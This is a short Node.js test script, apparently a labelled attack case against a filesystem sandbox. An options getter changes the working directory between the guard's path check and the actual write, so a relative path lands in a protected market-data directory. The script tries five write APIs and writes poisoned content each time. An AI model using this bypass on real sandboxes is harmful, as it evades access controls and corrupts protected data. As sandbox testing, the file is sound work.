/* @attack {"title": "relative write path decided against one cwd, performed after an options getter chdir()s into the lakehouse"} */
import fs from 'node:fs';
import path from 'node:path';

// '../AAPL.csv' names a run-dir file while the cwd is runs/attacker/sub, and the
// lakehouse's AAPL.csv once the getter has moved the cwd to data/lakehouse/ohlcv
// (a directory the sleeve may read, so chdir is allowed), between the guard's
// decision and Node's open.
const run = process.env.SLEEVE_RUN_DIR;
const ohlcv = path.resolve('data/lakehouse/ohlcv');
fs.mkdirSync(`${run}/sub`);
fs.writeFileSync(`${run}/AAPL.csv`, 'decoy\n');
const moving = () => ({
  get encoding() {
    process.chdir(ohlcv);
    return 'utf8';
  },
});
const attempts = [
  ['writeFileSync', () => fs.writeFileSync('../AAPL.csv', 'poisoned via chdir\n', moving())],
  ['appendFileSync', () => fs.appendFileSync('../AAPL.csv', 'poisoned via chdir\n', moving())],
  ['writeFile callback', () => new Promise((resolve, reject) => fs.writeFile('../AAPL.csv', 'poisoned\n', moving(), (e) => (e ? reject(e) : resolve())))],
  ['promises.writeFile', () => fs.promises.writeFile('../AAPL.csv', 'poisoned\n', moving())],
  ['createWriteStream', () => fs.createWriteStream('../AAPL.csv', { ...moving(), flags: 'r+' }).end('X')],
];
for (const [name, call] of attempts) {
  try {
    process.chdir(`${run}/sub`);
    await call();
    console.log(`${name}: done`);
  } catch (error) {
    console.log(`${name}: ${error.code}`);
  }
}
